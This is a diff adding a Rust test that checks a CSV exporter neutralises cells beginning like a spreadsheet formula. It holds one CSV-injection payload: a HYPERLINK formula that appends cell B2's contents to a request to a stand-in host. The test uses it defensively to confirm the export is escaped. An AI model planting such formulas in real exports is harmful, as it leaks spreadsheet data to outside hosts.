@@ -6,7 +6,7 @@ use std::path::Path;
 
 use calamine::{open_workbook, Data, Reader, SheetVisible, Xlsx};
 use shinchoku_core::export::{self, sheet, ExportError, ExportOptions, Selection};
-use shinchoku_core::model::{Field, Half};
+use shinchoku_core::model::{Actor, CellKey, Field, Half, Source};
 use shinchoku_core::report::Report;
 
 use crate::common::{run, sample_db, sample_store, Output, TempDir};
@@ -471,4 +471,28 @@ fn csv_is_utf8_with_bom_one_row_per_measure_year_and_half() {
         "canonical glyphs only"
     );
     assert!(text.contains(",令和６年度,下半期,10 11 12 1 2 3,"));
+}
+
+#[test]
+fn csv_cells_beginning_like_a_formula_open_as_text() {
+    let mut store = sample_store();
+    let key = CellKey {
+        measure_id: store.measures().unwrap()[0].id,
+        year: 2024,
+        field: Field::Status(Half::H2),
+    };
+    let typed = "=HYPERLINK(\"http://example.com/?\"&B2,\"詳細\")";
+    store
+        .write(&Actor::Coordinator, &Source::App, |w| {
+            w.put_cell(&key, typed)
+        })
+        .unwrap();
+    let dir = TempDir::new();
+    let out = dir.path("open.csv");
+    let report = Report::load(&store).unwrap();
+    export::export_csv(&report, &ExportOptions::default(), &out).unwrap();
+    let text = std::fs::read_to_string(&out).unwrap();
+    let written = format!("\"'{}\"", typed.replace('"', "\"\""));
+    assert!(text.contains(&written), "{written} not in the CSV");
+    assert!(!text.contains(",=") && !text.contains(",\"="));
 }
